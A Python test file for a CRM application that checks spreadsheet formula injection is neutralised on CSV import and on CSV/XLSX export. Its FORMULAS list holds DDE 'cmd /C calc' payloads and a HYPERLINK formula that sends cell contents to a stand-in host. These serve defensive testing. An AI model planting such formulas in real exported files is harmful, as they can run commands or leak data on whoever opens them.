"""AC35: text that a spreadsheet would run comes in as the text it is and goes out as text."""

from __future__ import annotations

import csv
import io

import httpx
import openpyxl
from sqlalchemy import select

from crm_core.db import reading
from crm_core.tables import customers
from tests.workstation.exchange import ALL, Work, asked, house, number_of, open_house, send, work
from tests.workstation.house import House

pytestmark = ALL
__all__ = ["house", "open_house", "work"]
FORMULAS = (
    *("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C";"x")'),
    '=HYPERLINK("http://x/?"&A1,"more")',
)


async def fetched(client: httpx.AsyncClient, work: Work, **wish: str) -> bytes:
    key = number_of(await asked(client, **wish))
    await work()
    link = (await client.post(f"/office/exports/{key}/link")).headers["location"]
    return (await client.get(link)).content


async def test_formulas_come_in_as_they_are_and_go_out_disarmed(house: House, work: Work) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(
        [["account", "name", "address"], *([f"88{n}", text, text] for n, text in enumerate(FORMULAS))]
    )
    async with house.signed_in("marta") as client:
        key = number_of(await send(client, "a.csv", out.getvalue().encode()))
        await work()
        number_of(await client.post(f"/office/imports/{key}/commit"))
        await work()
        async with reading(house.parts.engine) as db:
            names = set((await db.execute(select(customers.c.name))).scalars())
        assert set(FORMULAS) <= names, "what is stored is what the file said"
        rows = list(csv.reader(io.StringIO((await fetched(client, work, subject="subscribers")).decode("utf-8-sig"))))
        assert {"'" + text for text in FORMULAS} <= {cell for row in rows for cell in row}
        assert not any(cell.startswith(("=", "+c", "-2", "@", "\t", "\r")) for row in rows for cell in row)
        book = openpyxl.load_workbook(io.BytesIO(await fetched(client, work, subject="subscribers", form="xlsx")))
        page = book.active
        assert page is not None
        cells = [cell for row in page.iter_rows() for cell in row if cell.value in FORMULAS]
        assert len(cells) == 2 * len(FORMULAS)
        assert {cell.data_type for cell in cells} == {"s"}
        assert not any(cell.hyperlink for cell in cells)


async def test_rejected_rows_are_harmless_to_open(house: House, work: Work) -> None:
    content = "account,name,address,phone\n77,=1+1,@x,not a number\n"
    async with house.signed_in("marta") as client:
        key = number_of(await send(client, "a.csv", content.encode()))
        await work()
        rejected = (await client.get(f"/office/imports/{key}/rejected")).content.decode("utf-8-sig")
        page = (await client.get(f"/office/imports/{key}")).text
    row = list(csv.reader(io.StringIO(rejected)))[1]
    assert row[3:] == ["77", "'=1+1", "'@x", "not a number"]
    assert "<bdi>=1+1</bdi></td>" in page
